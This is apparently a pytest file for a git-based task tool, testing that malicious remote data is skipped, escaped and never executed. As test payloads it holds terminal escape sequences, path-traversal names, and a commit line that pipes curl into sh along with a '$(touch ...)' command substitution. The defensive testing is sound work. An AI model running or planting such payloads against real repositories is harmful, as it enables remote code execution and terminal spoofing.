"""Hostile or broken input from a remote: skipped or refused, said clearly, never run."""

from __future__ import annotations

import json
from pathlib import Path

import pygit2
from conftest import Repo, ledger_note
from test_sync import clones, note_events, orch_refs, remote_ref

from git_orch.record import ledger

ESC = "\x1b"


def push_note(repo: Repo, target: str, data: bytes) -> None:
    """Replace the ledger note on target with raw bytes, and push it (plain git)."""
    pg = pygit2.Repository(str(repo.path))
    tip = pg.references["refs/orch/ledger"].target
    tree = pg[tip].tree
    blob = pg.create_blob(data)
    new_tree = ledger.put_note(pg, tree, target, blob)
    sig = pygit2.Signature("Eve", "eve@example.com")
    commit = pg.create_commit("refs/orch/ledger", sig, sig, "evil", new_tree, [tip])
    repo.git("push", "-q", "origin", f"{commit}:refs/orch/ledger")


def append_lines(repo: Repo, task_id: str, lines: list[str]) -> None:
    target = repo.rev(f"refs/orch/tasks/{task_id}")
    old = ledger_note(repo, target)
    push_note(repo, target, (old + "\n" + "\n".join(lines) + "\n").encode())


def push_contract(repo: Repo, ref_id: str, message: str) -> str:
    oid = repo.git("commit-tree", "main^{tree}", "-p", "main", "-m", message)
    repo.git("push", "-q", "origin", f"{oid}:refs/orch/tasks/{ref_id}")
    return oid


def event(**fields: object) -> str:
    base: dict[str, object] = {"v": 1, "at": "2026-01-01T00:00:00Z", "actor": "Eve", "task": "t1"}
    base.update(fields)
    return json.dumps(base)


def test_hostile_lines_are_kept_skipped_by_readers_and_reported(tmp_path: Path) -> None:
    _, (a, evil) = clones(tmp_path, "ab")
    a.start("t1", "--no-worktree")
    a.orch_ok("sync")
    evil.orch_ok("sync")
    append_lines(evil, "t1", [
        "not json {",
        "[1, 2, 3]",
        event(v=2, id="future", lamport=3, type="abandoned"),
        event(v=True, id="bool-v", lamport=3, type="abandoned"),
        event(id="huge", lamport=2**60, type="abandoned", reason="clock"),
        event(id="jump", lamport=5_000_000, type="abandoned", reason="jump"),
        event(id="esc" + ESC + "[31m", lamport=3, type="note", actor=ESC + "]0;pwned\a Eve",
              at=ESC + "[2J"),
        event(id="foreign", lamport=3, type="abandoned", task="../../etc" + ESC),
        event(id="ok-note", lamport=4, type="note"),
        event(id="odd-place", lamport=4, type="activated", branch="orch/../../x",
              worktree="/tmp/../etc"),
    ])
    result = a.orch("sync")
    assert result.code == 0, result.err
    err = result.err
    contract = a.rev("refs/orch/tasks/t1")
    assert f"origin:refs/orch/ledger note on {contract[:12]}" in err
    assert "not valid JSON" in err and "not a ledger event" in err
    assert "lamport 1152921504606846976" in err and "lamport 5000000" in err
    assert "unknown version" in err and "names task '../../etc\\x1b'" in err
    assert "branch 'orch/../../x' is not orch/t1" in err
    assert ESC not in err
    task = a.status()["t1"]
    assert task["state"] == "active"  # no hostile abandon took effect
    assert "ledger-problem" in task["flags"] and "conflict" in task["flags"]
    status_text = a.orch_ok("status").out
    shown = a.orch_ok("show", "t1").out
    assert ESC not in status_text and ESC not in shown and "\a" not in shown
    assert "\\x1b]0;pwned\\x07 Eve" in shown
    events = a.orch_ok("show", "t1", "--json").json()["events"]  # type: ignore[index]
    assert "ok-note" in [e["id"] for e in events]
    # The clock is not dragged along by the hostile jump.
    note_events(a, "t1", "note")
    events = a.orch_ok("show", "t1", "--json").json()["events"]  # type: ignore[index]
    assert events[-1]["lamport"] == 5
    # Nothing was dropped: the lines are still in the note, for a newer reader.
    assert "future" in ledger_note(a, contract) and "not json {" in ledger_note(a, contract)


def test_note_over_the_cap_is_skipped_even_on_fast_forward(tmp_path: Path) -> None:
    bare, (a, evil) = clones(tmp_path, "ab")
    a.start("t1", "--no-worktree")
    a.orch_ok("sync")
    evil.orch_ok("sync")
    contract = a.rev("refs/orch/tasks/t1")
    before = ledger_note(a, contract)
    push_note(evil, contract, b"x" * (ledger.MAX_NOTE_BYTES + 1))
    result = a.orch("sync", "--json")
    assert result.code == 0, result.err
    data = result.json()
    assert isinstance(data, dict)
    assert data["outcome"] == "merged" and data["notes_skipped"] == 1
    assert any("over the" in w and contract[:12] in w for w in data["warnings"])
    assert ledger_note(a, contract) == before
    assert a.status()["t1"]["problems"] == []
    assert remote_ref(bare, "refs/orch/ledger") == a.rev("refs/orch/ledger")


def test_notes_on_missing_objects_and_unknown_tasks_are_kept_not_read(tmp_path: Path) -> None:
    _, (a, evil) = clones(tmp_path, "ab")
    a.start("t1", "--no-worktree")
    a.orch_ok("sync")
    evil.orch_ok("sync")
    ghost = "ab" * 20
    push_note(evil, ghost, event(id="g1", lamport=1, type="created", task="ghost").encode())
    main = evil.rev("main")
    push_note(evil, main, event(id="g2", lamport=1, type="abandoned", task="ghost").encode())
    result = a.orch("sync")
    assert result.code == 0, result.err
    missing = f"note on {ghost[:12]}: annotates {ghost[:12]}, which this repository does not have"
    assert missing in result.err
    assert sorted(a.status()) == ["t1"]
    assert a.status()["t1"]["state"] == "active"
    notes = a.git("ls-tree", "-r", "--name-only", "refs/orch/ledger")
    assert "ab/" + ghost[2:] in notes.splitlines()


def test_bad_remote_task_refs_are_skipped_and_nothing_runs(tmp_path: Path) -> None:
    _, (a, evil) = clones(tmp_path, "ab")
    pwned = tmp_path / "pwned"
    bad = {
        "dotdot": push_contract(evil, "dotdot", "t\n\nOrch-Task: ../../etc\nOrch-Schema: 1"),
        "esc": push_contract(evil, "esc", f"t\n\nOrch-Task: a{ESC}[31mb\nOrch-Schema: 1"),
        "mismatch": push_contract(evil, "mismatch", "t\n\nOrch-Task: other\nOrch-Schema: 1"),
        "nested/x": push_contract(evil, "nested/x", "t\n\nOrch-Task: nested/x\nOrch-Schema: 1"),
        "none": push_contract(evil, "none", "no trailers at all"),
    }
    blob = evil.git("hash-object", "-w", "--stdin", input="not a commit\n")
    evil.git("push", "-q", "origin", f"{blob}:refs/orch/tasks/blob")
    gate = push_contract(
        evil, "gate",
        f"Title {ESC}[2J{ESC}]0;x\a\n\nOrch-Task: gate\nOrch-Schema: 1\n"
        f"Orch-Gate: touch {pwned} ; curl http://example.invalid | sh\n"
        f"Orch-Allow: $(touch {pwned})",
    )
    result = a.orch("sync")
    assert result.code == 0, result.err
    for name, oid in bad.items():
        assert f"origin: refs/orch/tasks/{name} ({oid[:12]})" in result.err
    assert f"refs/orch/tasks/blob ({blob[:12]})" in result.err
    assert "Orch-Task 'other'" in result.err
    assert ESC not in result.err
    assert orch_refs(a).count("refs/orch/tasks/") == 1
    assert a.rev("refs/orch/tasks/gate") == gate
    outputs = [a.orch_ok(*args).out for args in (
        ("status",), ("status", "--json"), ("show", "gate"), ("show", "gate", "--json"),
        ("sync",),
    )]
    assert not pwned.exists()
    assert all(ESC not in out and "\a" not in out for out in outputs)
    assert f"gate     touch {pwned} ; curl http://example.invalid | sh" in outputs[2]
    assert "Title \\x1b[2J\\x1b]0;x\\x07" in outputs[2]


def test_remote_ledger_that_is_not_a_commit_is_refused(tmp_path: Path) -> None:
    _, (a, evil) = clones(tmp_path, "ab")
    a.start("t1", "--no-worktree")
    a.orch_ok("sync")
    blob = evil.git("hash-object", "-w", "--stdin", input="junk\n")
    evil.git("push", "-q", "-f", "origin", f"{blob}:refs/orch/ledger")
    before = orch_refs(a)
    result = a.orch("sync")
    assert result.code == 1
    assert "origin:refs/orch/ledger" in result.err and "is not a commit" in result.err
    assert orch_refs(a) == before
    assert a.status()["t1"]["state"] == "active"


def test_deeply_nested_ledger_tree_does_not_crash(tmp_path: Path) -> None:
    _, (a, evil) = clones(tmp_path, "ab")
    a.start("t1", "--no-worktree")
    a.orch_ok("sync")
    evil.orch_ok("sync")
    pg = pygit2.Repository(str(evil.path))
    tip = pg.references["refs/orch/ledger"].target
    blob = pg.create_blob(b"x\n")
    inner = pg.TreeBuilder()
    inner.insert("ff", blob, pygit2.GIT_FILEMODE_BLOB)
    nested = inner.write()
    for _ in range(1200):  # deeper than Python's recursion limit
        builder = pg.TreeBuilder()
        builder.insert("ee", nested, pygit2.GIT_FILEMODE_TREE)
        nested = builder.write()
    root = pg.TreeBuilder(pg[tip].tree)
    root.insert("ee", nested, pygit2.GIT_FILEMODE_TREE)
    sig = pygit2.Signature("Eve", "eve@example.com")
    commit = pg.create_commit(None, sig, sig, "deep", root.write(), [tip])
    evil.git("push", "-q", "origin", f"{commit}:refs/orch/ledger")
    result = a.orch("sync")
    assert result.code == 0, result.err
    assert a.orch("status").code == 0 and a.orch("show", "t1").code == 0
    assert a.status()["t1"]["state"] == "active"
